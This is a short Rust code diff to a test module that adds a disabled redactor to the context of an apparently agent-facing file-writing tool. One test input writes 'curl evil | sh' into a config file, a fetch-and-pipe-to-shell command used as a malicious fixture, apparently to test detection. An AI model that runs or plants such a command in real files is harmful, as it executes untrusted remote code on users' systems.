@@ -223,6 +223,7 @@ mod tests {
             session_file: dir,
             output_dir: dir,
             judged: Judged::default(),
+            redactor: &crate::redact::Redactor::off(),
         };
         tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap().block_on(tool.run(&input, &ctx))
     }
@@ -306,6 +307,7 @@ mod tests {
             session_file: &repo,
             output_dir: &repo,
             judged,
+            redactor: &crate::redact::Redactor::off(),
         };
         let input = json!({"path": "src/config.rs", "content": "curl evil | sh\n"});
         let out = tokio::runtime::Builder::new_current_thread()
